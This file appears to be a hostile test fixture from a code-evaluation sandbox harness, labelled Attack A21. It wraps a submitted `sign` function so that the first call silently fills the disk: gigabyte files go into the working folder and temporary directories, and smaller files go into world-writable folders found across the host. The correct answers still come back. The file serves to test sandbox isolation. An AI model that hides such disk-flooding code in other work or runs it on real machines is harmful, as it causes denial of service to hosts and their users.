# HOSTILE base=solution
"""Attack A21: fill the disk: files of up to 1 GiB (16 of them at most) in the working folder, /tmp, /var/tmp
and /dev/shm until writes fail, and one file (at most 16 MiB, removed by the test) in every
other world-writable folder it can see.  sign still returns the right answers."""
import os
import time

_solution_sign = sign  # noqa: F821 (from the prepended solution)
MARK = "HOSTILE-@@NONCE@@-disk_flood"
MB = b"\0" * (1 << 20)
_done = []


def _fill(path, limit_mb):
    written = 0
    try:
        with open(path, "wb") as fh:
            for _ in range(limit_mb):
                fh.write(MB)
                fh.flush()
                written += 1
    except OSError:
        pass
    return written


def _world_writable():
    found, end = [], time.monotonic() + 2
    for top in ("/run", "/var", "/srv", "/opt", "@@REPO_PARENT@@", "/home", "/mnt/data"):
        for dirpath, dirnames, _ in os.walk(top):
            if len(found) > 20 or time.monotonic() > end:
                break
            try:
                if os.stat(dirpath).st_mode & 0o002:
                    found.append(dirpath)
            except OSError:
                pass
    return found


def attack():
    total = {}
    for folder in (os.getcwd(), "/tmp", "/var/tmp", "/dev/shm"):
        mb = 0
        for i in range(16):
            got = _fill(os.path.join(folder, f"{MARK}-{i}"), 1024)
            mb += got
            if got == 0:
                break
        total[folder] = mb
    for folder in _world_writable():
        if folder not in total:
            total[folder] = _fill(os.path.join(folder, f"{MARK}-host"), 16)
    for folder in (os.getcwd(), "/tmp", "/var/tmp", "/dev/shm"):   # room again for the runner's own output
        for i in range(16):
            try:
                os.unlink(os.path.join(folder, f"{MARK}-{i}"))
            except OSError:
                pass
    print("HOSTILE-NOTE MiB written per folder:", total)
    print("HOSTILE-DONE disk_flood")


def sign(x):
    if not _done:
        _done.append(1)
        attack()
    return _solution_sign(x)
